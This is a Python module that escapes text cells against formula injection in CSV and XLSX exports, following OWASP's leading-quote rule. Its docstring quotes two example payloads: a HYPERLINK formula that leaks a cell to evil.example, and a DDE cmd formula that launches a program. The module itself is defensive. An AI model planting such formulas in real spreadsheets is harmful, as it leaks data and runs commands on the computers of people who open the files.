"""Tables people download and open in Excel or WPS: one rule against formula injection for all of them.

A text cell such as `=HYPERLINK("http://evil.example/?leak="&A1,"点我")` or `=cmd|' /C calc'!A0` (a
city or account name someone imported) runs as a formula when the file is opened. OWASP's rule
(https://owasp.org/www-community/attacks/CSV_Injection): a text cell that starts with = + - @, a tab or
a carriage return gets a leading single quote, so spreadsheet programs show it as text. Only text is
escaped; numbers stay numbers (-3.5 is a number, not a formula). XLSX text cells are also written as
strings, never as formulas, whatever they start with.

Every export goes through csv_bytes / xlsx_bytes (or cell_text for a hand-built row).
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

import pandas as pd
from pandas.api.types import is_object_dtype, is_string_dtype

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"
MAX_SHEET_NAME = 31  # Excel's limit


def cell_text(value: str) -> str:
    """`value` as a spreadsheet shows it as text: a quote before a leading = + - @ tab or CR."""
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def frame_escaped(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and column labels are escaped (cell_text); numbers untouched."""
    escaped = frame.copy(deep=False)
    for position in range(frame.shape[1]):
        values = frame.iloc[:, position]
        if _is_text(values.dtype):
            escaped.isetitem(position, _escaped_column(values))
    escaped.columns = [cell_text(column) if isinstance(column, str) else column for column in frame.columns]
    return escaped


def csv_bytes(frame: pd.DataFrame, *, bom: bool) -> bytes:
    """The table as UTF-8 CSV (CRLF line ends, as Excel writes them), escaped; with a BOM when asked
    (Excel on Chinese Windows reads UTF-8 without one as GBK)."""
    text = frame_escaped(frame).to_csv(index=False, lineterminator="\r\n")
    return ((BOM if bom else "") + text).encode("utf-8")


def csv_rows_bytes(rows: Iterable[Sequence[object]], *, bom: bool) -> bytes:
    """Rows built by hand (a header-only template) as the same escaped UTF-8 CSV as csv_bytes."""
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerows([_escaped_value(value) for value in row] for row in rows)
    return ((BOM if bom else "") + text.getvalue()).encode("utf-8")


def xlsx_bytes(frame: pd.DataFrame, *, sheet_name: str) -> bytes:
    """The table as an XLSX workbook of one sheet, escaped, text cells stored as strings, header frozen."""
    name = sheet_name[:MAX_SHEET_NAME]
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        frame_escaped(frame).to_excel(writer, index=False, sheet_name=name)
        sheet = writer.sheets[name]
        sheet.freeze_panes = "A2"
        # openpyxl stores any str starting with "=" as a formula ("f"); a string cell never runs. Only the
        # header and the text columns can hold one (numbers are written as numbers).
        cells = [*sheet[1], *(cell for column in _text_columns(frame)
                              for (cell,) in sheet.iter_rows(min_col=column, max_col=column))]
        for cell in cells:
            if cell.data_type == "f":
                cell.data_type = "s"
    return buffer.getvalue()


def _text_columns(frame: pd.DataFrame) -> list[int]:
    """The 1-based sheet columns of frame's text columns."""
    return [position + 1 for position, dtype in enumerate(frame.dtypes) if _is_text(dtype)]


def _is_text(dtype: object) -> bool:
    return is_object_dtype(dtype) or is_string_dtype(dtype)


def _escaped_column(values: pd.Series) -> pd.Series:
    """The column with its risky text cells escaped; the column itself (same dtype) when none is."""
    try:
        risky = values.str.startswith(FORMULA_PREFIXES, na=False).astype(bool)
    except AttributeError:  # an object column without any text
        return values
    if not risky.any():
        return values
    escaped = values.copy()
    escaped[risky] = "'" + values[risky]
    return escaped


def _escaped_value(value: object) -> object:
    return cell_text(value) if isinstance(value, str) else value
